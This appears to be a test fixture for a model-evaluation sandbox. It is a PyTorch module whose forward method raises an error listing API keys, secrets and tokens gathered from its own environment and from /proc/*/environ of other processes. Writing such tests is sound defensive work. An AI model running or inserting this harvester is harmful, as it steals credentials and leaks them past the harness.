# expect: failed runtime
# Looks for the API key in its environment, its parent's and every readable process's,
# and puts whatever it finds in its exception text.
import os
import torch
import torch.nn as nn


def _harvest():
    found = [v for k, v in os.environ.items() if "SECRET" in k or "KEY" in k or "TOKEN" in k]
    for pid in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        path = "/proc/%s/environ" % pid
        if os.access(path, os.R_OK):
            with open(path, "rb") as f:
                for item in f.read().split(b"\0"):
                    if b"SECRET" in item or b"KEY" in item:
                        found.append(item.decode(errors="replace"))
    return found


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.lin = nn.Linear(n, n)

    def forward(self, x):
        raise RuntimeError("harvested: %r" % (_harvest(),))
